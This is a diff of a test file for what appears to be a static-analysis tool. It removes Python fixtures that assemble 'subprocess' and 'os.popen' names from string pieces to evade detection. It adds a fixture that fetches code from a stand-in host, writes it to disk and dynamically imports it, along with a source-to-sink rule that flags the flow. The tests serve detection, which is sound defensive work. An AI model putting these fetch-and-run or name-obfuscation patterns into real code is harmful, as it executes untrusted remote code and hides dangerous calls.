@@ -268,16 +268,17 @@ run('a', 'b', 'c')
   expect(calls(await factsOf({ 'a.py': text }))).toContain('2 call(a b c, ?)')
 })
 
-it.each([
-  ["importlib.import_module('sub' + 'process')", 'code.import.assembled'],
-  ["getattr(os, 'po' + 'pen')('x')", 'code.call.assembled'],
-] as const)('a name that is put together is told as such: %s', async (text, field) => {
-  const facts = await factsOf({ 'a.py': `import os, importlib\n${text}\n` })
-  expect(facts.filter((fact) => fact[field] === true)).toHaveLength(1)
-})
-
-it('a name that stands in the file is not', async () => {
-  const text = `import importlib\nname = 'subprocess'\nimportlib.import_module(name)\n`
-  const facts = await factsOf({ 'a.py': text })
-  expect(facts.filter((fact) => fact['code.import.assembled'] === true)).toEqual([])
+it('a module that something was left in is what was left', async () => {
+  const text = `import { writeFile } from 'node:fs/promises'
+import { pathToFileURL } from 'node:url'
+const file = '/x/tables.mjs'
+await writeFile(file, await (await fetch('https://a.example')).text())
+const { default: build } = await import(pathToFileURL(file).href)
+`
+  const sink = {
+    ...js,
+    sources: [{ pattern: 'fetch', tag: 'remote' }],
+    sinks: [{ pattern: 'import', tag: 'exec' }],
+  }
+  expect(flows(await factsOf({ 'a.ts': text }, [sink]))).toHaveLength(1)
 })
